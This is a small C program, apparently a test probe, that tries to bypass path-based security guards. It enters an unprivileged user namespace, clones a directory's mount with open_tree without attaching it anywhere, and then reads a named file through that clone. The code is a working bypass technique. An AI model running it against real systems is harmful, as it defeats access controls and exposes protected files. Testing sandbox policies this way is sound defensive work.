/* SPDX-License-Identifier: Apache-2.0 */
/*
 * One way around every guard that goes by paths: in a user namespace of its own, which needs no right at all, copy the mount of DIR
 * without attaching the copy anywhere, and open NAME below it. The kernel then knows the file as "/NAME", and no mount hook has fired.
 * Prints what it reads. Exit: 0 read, 1 the file was refused, 2 the attempt itself was not possible. Must never write to DIR.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef AT_RECURSIVE
#define AT_RECURSIVE 0x8000
#endif

static int detached_copy(const char *dir)
{
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		return -1;
	return (int)syscall(SYS_open_tree, AT_FDCWD, dir, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC | AT_RECURSIVE);
}

int main(int argc, char **argv)
{
	char part[4096];
	ssize_t got;
	int tree, file;

	if (argc != 3) {
		fprintf(stderr, "usage: opentree DIR NAME\n");
		return 2;
	}
	tree = detached_copy(argv[1]);
	if (tree < 0) {
		fprintf(stderr, "opentree: no detached copy of %s: %s\n", argv[1], strerror(errno));
		return 2;
	}
	file = openat(tree, argv[2], O_RDONLY | O_CLOEXEC);
	if (file < 0) {
		fprintf(stderr, "opentree: a detached copy of %s exists; %s in it: %s\n", argv[1], argv[2], strerror(errno));
		return 1;
	}
	while ((got = read(file, part, sizeof(part))) > 0)
		if (write(STDOUT_FILENO, part, (size_t)got) != got)
			return 2;
	if (got < 0) {
		fprintf(stderr, "opentree: reading %s: %s\n", argv[2], strerror(errno));
		return 1;
	}
	return 0;
}
